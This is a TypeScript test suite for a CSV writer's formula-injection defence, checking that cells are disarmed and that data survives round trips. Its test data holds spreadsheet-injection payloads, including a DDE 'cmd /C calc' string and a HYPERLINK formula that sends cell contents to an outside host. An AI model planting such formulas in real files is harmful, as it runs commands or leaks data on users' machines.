import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { disarm, encodeCsv, PLAIN_CSV, RUSSIAN_CSV } from '../../domain/csv.ts';
import { readCsv } from './strict-table.ts';

/** As a strict reader that others wrote reads it. */
function parsed(text: string, delimiter = ','): readonly (readonly string[])[] {
  return parse(text, { bom: true, delimiter, record_delimiter: '\r\n', relax_quotes: false, skip_empty_lines: false });
}

/** What a spreadsheet would run: the first character of a cell, white space and quotation marks apart. */
const ACTIVE = /^[\s"\u200B-\u200F\u2060\uFEFF]*[=+\-@＝＋－＠]/;

const FORMULAS = [
  '=1+1',
  '+7',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://example.org/?"&A1,"Подробнее")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '"=1+1"',
  'Завод;=1+1',
  'Завод,=1+1',
  'Завод;"=1+1',
  'Завод\r\n=1+1',
  'Завод\t=1+1',
];

describe('K11: a file that is opened in a spreadsheet', () => {
  it.each(FORMULAS)('has no cell that would be run: %j, in whichever dialect it is read', (text) => {
    for (const dialect of [PLAIN_CSV, RUSSIAN_CSV]) {
      const file = encodeCsv([['Наименование'], [text]], dialect);
      for (const delimiter of [',', ';', '\t', '|']) {
        const cells: readonly string[][] = parse(file, {
          bom: true,
          delimiter,
          relax_quotes: true,
          relax_column_count: true,
        });
        expect(cells.flat().filter((cell) => ACTIVE.test(cell))).toEqual([]);
      }
    }
  });

  it('has none whatever the text is made of', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠,;"\t\r\n\0 aя1'), maxLength: 12 });
    fc.assert(
      fc.property(text, (one) => {
        for (const [dialect, own] of [
          [PLAIN_CSV, ','],
          [RUSSIAN_CSV, ';'],
        ] as const) {
          const [, [cell = ''] = []] = readCsv(encodeCsv([['a'], [one]], dialect), own);
          expect([cell, ACTIVE.test(cell) || /^[\t\r\n\0]/.test(cell)]).toEqual([cell, false]);
        }
      }),
    );
  });
});

describe('C11: a text that begins like a formula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['-5', "'-5"],
    ['＝1', "'＝1"],
    ['\0', "'\0"],
    ['\tа', "'\tа"],
    ['Завод; =1', "Завод; '=1"],
  ])('%j is disarmed as %j', (text, expected) => {
    expect(disarm(text)).toBe(expected);
  });

  it.each(['Станко-инструментальный кластер', 'А+Б', 'почта@example', 'Кластер «=»', '— тире', '5 - 3', ''])(
    '%j stays as it is',
    (text) => {
      expect(disarm(text)).toBe(text);
    },
  );

  it('is a number where it is a number: -5 stays -5', () => {
    expect(encodeCsv([['a'], [-5], [-1.5]], PLAIN_CSV)).toBe('\uFEFFa\r\n-5\r\n-1.5\r\n');
    expect(encodeCsv([['a'], [-5], [-1.5]], RUSSIAN_CSV)).toBe('\uFEFFa\r\n-5\r\n-1,5\r\n');
  });
});

describe('the writing of CSV', () => {
  const CASES: Readonly<Record<string, readonly (readonly string[])[]>> = {
    'simple cells': [
      ['a', 'b'],
      ['1', '2'],
    ],
    'a delimiter in a cell': [
      ['first', 'address'],
      ['Иван-город', 'ул. Мира, 5; корпус 2'],
    ],
    'quotation marks in a cell': [
      ['a', 'b'],
      ['1', 'ООО "Ромашка" "и" ""'],
    ],
    'a cell that is one quotation mark': [['a'], ['"']],
    'empty cells at every place': [
      ['a', 'b', 'c'],
      ['', '', '3'],
      ['1', '', ''],
      ['', '', ''],
    ],
    'one empty column': [['a'], [''], ['x']],
    'ends of lines in a cell': [
      ['a', 'b'],
      ['Once\nupon', 'a\r\ntime'],
      ['x\r', 'z\ry'],
    ],
    'quotation marks and ends of lines': [['a'], ['"\n"'], ['a"\r\n"b']],
    'JSON in a cell': [
      ['key', 'json'],
      ['1', '{"type":"Point","coordinates":[102.0,0.5]}'],
    ],
    'other letters and signs beyond the basic plane': [['a'], ['ʤ Ж 漢字 🏭 é']],
    'white space at the ends': [
      ['a', 'b'],
      [' x ', '\u00A0y'],
    ],
    'long numbers that are texts': [['a'], ['007'], ['12345678901234567890'], ['1e5']],
  };

  it.each(Object.entries(CASES))('keeps %s', (_name, rows) => {
    for (const [dialect, delimiter] of [
      [PLAIN_CSV, ','],
      [RUSSIAN_CSV, ';'],
    ] as const) {
      const text = encodeCsv(rows, dialect);
      expect(readCsv(text, delimiter)).toEqual(rows);
      expect(parsed(text, delimiter)).toEqual(rows);
    }
  });

  it('keeps any text but for the apostrophes that disarm it', () => {
    const rows = fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string()), { minLength: 1 });
    fc.assert(
      fc.property(rows, (cells) => {
        const expected = cells.map((row) => row.map(disarm));
        expect(readCsv(encodeCsv(cells, PLAIN_CSV))).toEqual(expected);
        expect(readCsv(encodeCsv(cells, RUSSIAN_CSV), ';')).toEqual(expected);
      }),
    );
  });
});
